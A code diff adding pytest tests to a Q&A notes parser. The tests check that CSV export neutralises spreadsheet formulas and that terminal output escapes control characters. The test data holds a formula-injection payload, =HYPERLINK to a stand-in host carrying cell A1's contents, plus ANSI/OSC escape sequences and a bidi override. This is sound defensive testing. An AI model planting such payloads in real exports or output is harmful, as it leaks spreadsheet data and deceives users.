@@ -138,3 +138,108 @@ def test_parser_knows_the_contract_commands():
     parser = build_parser()
     choices = parser._subparsers._group_actions[0].choices
     assert sorted(choices) == sorted(COMMANDS)
+
+
+HOSTILE = (
+    "Who reported it?\n\n"
+    '=HYPERLINK("http://x.example/?"&A1,"click") said +1 and @SUM(1) '
+    "and \x1b]8;;http://x.example/\x07link\x1b]8;;\x07 in \x1b[31mred\x1b[0m\x9b2J\x7f.\n\n"
+    "How many?\n\n-5 of them, reported as -5.\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+CMD()", "'+CMD()"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-5", "-5"),
+        ("+3.5", "+3.5"),
+        ("-1.2e5", "-1.2e5"),
+        ("Armenia", "Armenia"),
+        ("", ""),
+        (["=a", "b"], "'=a;b"),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(text, expected):
+    import pandas as pd
+
+    from karabakh_nb.cli import format_table
+
+    frame = pd.DataFrame({"cell": [text], "n": [-5]})
+    rows = list(csv.reader(io.StringIO(format_table(frame, "csv"))))
+    assert rows[1] == [expected, "-5"]  # a number is never a formula
+
+
+def test_csv_output_neutralises_formulas_json_stays_exact(capsys, write):
+    path = write("h.txt", HOSTILE)
+    _, out, _ = run(capsys, "parse", str(path), "--format", "csv")
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert rows[0]["answer"].startswith("'=HYPERLINK(")
+    assert rows[1]["answer"] == "'-5 of them, reported as -5."
+    _, out, _ = run(capsys, "parse", str(path), "--format", "json")
+    assert json.loads(out)[0]["answer"].startswith('=HYPERLINK("http://x.example/?"')
+    assert "\x1b[31mred" in json.loads(out)[0]["answer"]
+
+
+def test_table_output_shows_control_characters_escaped(capsys, write):
+    text = "Why?\n\n\x1b]8;;http://x.example/\x07\x1b[31mred\x9b2J\x7f \u202eit\u202c.\n"
+    code, out, _ = run(capsys, "parse", str(write("h.txt", HOSTILE + "\n" + text)))
+    assert code == 0
+    assert not any(c in out for c in "\x1b\x07\x9b\x7f\u202e")
+    assert "\\x1b]8;;http://x.example/\\x07\\x1b[31mred\\x9b2J\\x7f \\u202eit" in out
+
+
+def test_error_lines_show_control_characters_escaped(capsys, tmp_path):
+    code, _, err = run(capsys, "parse", str(tmp_path / "a\x1b]0;x\x07b.txt"))
+    assert code == 2
+    assert "\x1b" not in err
+    assert "a\\x1b]0;x\\x07b.txt: no such file" in err
+    assert err.count("\n") == 1
+
+
+@pytest.mark.parametrize("codec", ["rot13", "base64", "hex", "zlib", "punycode", "undefined"])
+def test_encoding_that_is_not_for_text_is_a_one_line_usage_error(capsys, codec):
+    code, _, err = run(capsys, "parse", str(SEED), "--encoding", codec)
+    assert code == 2
+    assert err == (
+        f"karabakh-nb: error: {codec!r} is not an encoding of text files; "
+        "try utf-8, utf-16, latin-1 or cp1252\n"
+    )
+
+
+def test_same_file_names_in_two_folders_get_distinct_ids_and_check_runs(capsys, tmp_path):
+    for year, answer in (("2020", "Armenia."), ("2021", "Azerbaijan.")):
+        (tmp_path / year).mkdir()
+        (tmp_path / year / "notes.txt").write_text(f"Who won?\n\n{answer}\n\nWho lost?\n")
+    paths = [str(tmp_path / "2020" / "notes.txt"), str(tmp_path / "2021" / "notes.txt")]
+    code, out, _ = run(capsys, "parse", *paths, "--format", "json")
+    assert code == 0
+    assert [(r["id"], r["source"]) for r in json.loads(out)] == [
+        ("2020/notes:1", "2020/notes.txt"),
+        ("2020/notes:5", "2020/notes.txt"),
+        ("2021/notes:1", "2021/notes.txt"),
+        ("2021/notes:5", "2021/notes.txt"),
+    ]
+    code, out, err = run(capsys, "check", *paths, "--format", "json")
+    assert (code, err) == (0, "")
+    assert {r["qa_id"] for r in json.loads(out) if r["kind"] == "unanswered"} == {
+        "2020/notes:5",
+        "2021/notes:5",
+    }
+
+
+def test_one_empty_file_in_a_folder_is_skipped_with_a_finding(capsys, tmp_path):
+    (tmp_path / "a.txt").write_text("Who won?\n\nArmenia.\n")
+    (tmp_path / "b.txt").write_bytes(b"")
+    code, out, _ = run(capsys, "parse", str(tmp_path), "--format", "json")
+    assert code == 0
+    assert [r["id"] for r in json.loads(out)] == ["a:1"]
+    code, out, _ = run(capsys, "check", str(tmp_path), "--format", "json")
+    [skipped] = [r for r in json.loads(out) if r["kind"] == "skipped_file"]
+    assert (skipped["qa_id"], skipped["source"]) == ("b:1", "b.txt")
+    assert "file is empty" in skipped["message"]
